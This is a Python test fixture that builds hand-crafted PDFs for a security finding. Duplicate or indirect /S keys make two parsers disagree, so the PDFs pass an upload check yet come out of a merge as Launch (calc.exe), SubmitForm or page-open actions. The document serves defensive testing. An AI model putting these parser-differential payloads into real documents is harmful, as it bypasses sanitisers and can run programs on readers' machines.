"""PDFs that two readers read differently (#28, finding 3): each was accepted by the
upload check (pypdf keeps the first of two keys, qpdf the last) and written by the case
file's merge (pikepdf) as a plain Launch, SubmitForm or page-open action. Hand-written,
as an attacker writes them: no tool people use makes these."""

_PAGE = b"3 0 obj << /Type /Page /Parent 2 0 R /MediaBox [0 0 200 200] %s >> endobj\n"
AMBIGUOUS = {
    "link-uri-then-launch": (
        b"",
        _PAGE % b"/Annots [4 0 R]",
        b"4 0 obj << /Type /Annot /Subtype /Link /Rect [0 0 10 10] /A << /S /URI "
        b"/URI (https://eagi.kz) /S /Launch /F (calc.exe) >> >> endobj\n",
    ),
    "indirect-action-type": (
        b"",
        _PAGE % b"/Annots [4 0 R]",
        b"4 0 obj << /Type /Annot /Subtype /Link /Rect [0 0 10 10] /A << /S 5 0 R "
        b"/F (calc.exe) >> >> endobj\n5 0 obj /Launch endobj\n",
    ),
    "open-action-goto-then-launch": (
        b"/OpenAction << /S /GoTo /D [3 0 R /Fit] /S /Launch /F (calc.exe) >>",
        _PAGE % b"",
        b"",
    ),
    "page-open-goto-then-launch": (
        b"",
        _PAGE % b"/AA << /O << /S /GoTo /D [3 0 R /Fit] /S /Launch /F (calc.exe) >> >>",
        b"",
    ),
    "duplicate-key-submit-form": (
        b"",
        _PAGE % b"/Annots [4 0 R]",
        b"4 0 obj << /Type /Annot /Subtype /Widget /Rect [0 0 10 10] /FT /Btn /A << "
        b"/S /SubmitForm /F (https://x.example) /S /SubmitForm >> >> endobj\n",
    ),
}


def ambiguous_pdf(kind: str) -> bytes:
    catalogue, page, extra = AMBIGUOUS[kind]
    return (
        b"%PDF-1.7\n1 0 obj << /Type /Catalog /Pages 2 0 R " + catalogue + b" >> endobj\n"
        b"2 0 obj << /Type /Pages /Kids [3 0 R] /Count 1 >> endobj\n" + page + extra
        + b"trailer << /Root 1 0 R >>\n%%EOF\n"
    )  # fmt: skip
